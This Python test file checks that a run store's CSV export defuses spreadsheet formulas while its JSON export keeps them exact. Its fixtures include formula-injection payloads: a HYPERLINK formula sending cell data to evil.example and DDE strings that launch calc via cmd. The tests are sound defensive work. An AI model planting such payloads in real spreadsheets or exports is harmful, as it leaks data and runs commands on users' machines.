"""CSV exports never carry a live formula; JSON exports stay exactly what was stored."""

from __future__ import annotations

import csv
import io
import json

import pytest

from lib import export
from lib.schema import GenerationRequest, Task
from lib.store import Store

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def runs(tmp_path):
    db = Store(tmp_path)
    ws = db.create_workspace("=cmd|' /C calc'!A0")
    made = []
    for i, text in enumerate(FORMULAS):
        run = db.create_run(ws.id, GenerationRequest(model="seedance-2.0-text-to-video", prompt=text), 1.5, True, "k_t")
        db.claim_submit(run.id)
        db.mark_submitted(run.id, Task(id=f"task-unified-{i}", status="pending"))
        db.set_notes(run.id, text)
        failed = Task.model_validate(
            {"id": f"task-unified-{i}", "status": "failed", "error": {"code": "unknown_error", "message": text}}
        )
        made.append(db.update_from_task(run.id, failed))
    return ws, [db.get_run(r.id) for r in made]


def test_formula_cells_are_neutralized_in_csv(runs):
    _ws, items = runs
    table = list(csv.DictReader(io.StringIO(export.to_csv(items).decode("utf-8"), newline="")))
    stored = export.rows(items)  # what the store holds (a prompt loses its leading tab, say)
    assert len(table) == len(FORMULAS)
    for row, raw in zip(table, stored, strict=True):
        for column in ("prompt", "notes", "error_message"):
            assert raw[column].startswith(export.FORMULA_STARTS), raw[column]
            assert row[column] == "'" + raw[column]
        assert not row["participant"]  # empty cells stay empty


def test_numbers_keep_their_sign_and_plain_text_is_untouched(tmp_path):
    db = Store(tmp_path)
    ws = db.create_workspace("W")
    run = db.create_run(
        ws.id, GenerationRequest(model="seedance-2.0-text-to-video", prompt="A calm sea"), -0.0, True, "k"
    )
    row = next(csv.DictReader(io.StringIO(export.to_csv([db.get_run(run.id)]).decode())))
    assert row["prompt"] == "A calm sea" and row["estimate_credits"] in ("0.0", "-0.0")


def test_json_stays_exact(runs):
    ws, items = runs
    doc = json.loads(export.to_json(ws, items))
    assert [r["prompt"] for r in doc["runs"]] == FORMULAS
    assert [r["notes"] for r in doc["runs"]] == FORMULAS
    assert doc["workspace"]["name"] == ws.name
